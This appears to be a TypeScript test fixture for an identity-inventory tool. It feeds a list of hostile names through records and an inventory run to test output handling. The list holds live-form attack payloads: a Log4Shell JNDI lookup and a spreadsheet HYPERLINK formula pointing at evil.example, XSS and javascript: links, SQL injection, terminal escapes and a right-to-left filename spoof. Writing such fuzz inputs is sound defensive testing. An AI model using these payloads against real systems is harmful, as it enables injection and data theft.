import type { Inventory } from "../../inventory/contract.ts";
import type { Coverage, NhiRecord } from "../../model/index.ts";
import { urn } from "../../model/index.ts";

/** Names that strangers can give to things, each of which has broken some tool. */
export const HOSTILE_NAMES: readonly string[] = [
  "plain",
  '=HYPERLINK("https://evil.example","click")',
  "+1+1",
  "-2+3",
  "@SUM(A1)",
  "\t=1+1",
  "a,b;c\"d'e",
  "line\nbreak",
  "carriage\rreturn\r\nboth",
  "\u001b]0;owned\u0007\u001b[31mred",
  "nul\u0000byte",
  "\u202Egnp.exe",
  "zero\u200Bwidth\uFEFF",
  "lone \uD800 surrogate",
  "separators \u2028 and \u2029",
  "<script>alert(1)</script><img src=x onerror=alert(1)>",
  "[link](javascript:alert(1)) ![image](https://evil.example/x.png) | `code` | **bold**",
  "__proto__",
  "constructor",
  "%s %n ${jndi:ldap://evil.example/a}",
  "' or 1=1 --",
  "C:\\temp\\x",
  "e\u0301 and \u00e9",
  "👩‍👩‍👧‍👦 \u{E0041}",
  "",
  " ",
  "x".repeat(100_000),
];

const SCOPE = urn({ provider: "kit", namespace: "kit", kind: "account", nativeId: "1" });

/** Every hostile name as an identity, a credential, a tag, a trusted principal and an owner. */
export function hostileRecords(): readonly NhiRecord[] {
  return HOSTILE_NAMES.flatMap((name, number): readonly NhiRecord[] => {
    const identity = urn({
      provider: "kit",
      namespace: "kit",
      kind: "robot",
      nativeId: `${number}${name.slice(0, 200)}`,
    });
    const id = (kind: string) => urn({ provider: "kit", namespace: "kit", kind, nativeId: String(number) });
    return [
      {
        type: "identity",
        urn: identity,
        kind: "robot",
        name,
        description: name,
        nature: number % 2 === 0 ? "machine" : "human",
        enabled: number % 3 === 0 ? null : number % 3 === 1,
        createdAt: 1_600_000_000_000 + number,
        tags: { [name]: name, owner: name },
        aliases: [name],
        attributes: { note: name },
      },
      { type: "credential", urn: id("key"), kind: "key", identity, secrecy: "static-secret", name, expiresAt: null },
      {
        type: "trust",
        urn: id("trust"),
        identity,
        mechanism: "assume-role",
        effect: "allow",
        party: "anyone",
        principal: name,
        subjects: [name],
      },
      { type: "permission-set", urn: id("set"), kind: "policy", name, document: { name } },
      {
        type: "owner",
        urn: id("owner"),
        subject: identity,
        owner: name,
        ownerKind: "unknown",
        source: "tag",
        confidence: number,
      },
    ];
  });
}

/** Writes the records as one collection's, in the given order. */
export function fill(
  inventory: Inventory,
  records: readonly NhiRecord[],
  status: Coverage["status"],
  startedAt: number,
): void {
  const run = inventory.writer().startRun({
    planHash: "kit",
    scanners: ["kit"],
    startedAt,
    version: "kit",
    acceptMassChange: false,
    resumeWithin: 0,
  });
  const collection = run.openCollection({
    scanner: "kit",
    scope: SCOPE,
    collection: "everything",
    precedence: 1,
    facts: ["identity", "credential", "trust", "permission-set", "owner"],
    authoritative: { identity: "all", credential: "all", trust: "all", "permission-set": "all", owner: "all" },
    optIn: false,
    startedAt,
    checkpointMaxAge: 0,
  });
  collection.commit(records);
  collection.finish({
    status,
    gaps:
      status === "complete"
        ? []
        : [{ class: "denied", operation: "kit:ListRobots", reason: HOSTILE_NAMES[9] ?? "denied" }],
    asOf: startedAt,
    startedAt,
    finishedAt: startedAt,
    pages: 1,
    items: records.length,
    requests: 1,
    retries: 0,
    throttled: 0,
    bytes: 0,
  });
  inventory.writer().refreshDerived();
  run.finish({ status: "finished", exitCode: status === "complete" ? 0 : 4, finishedAt: startedAt });
}
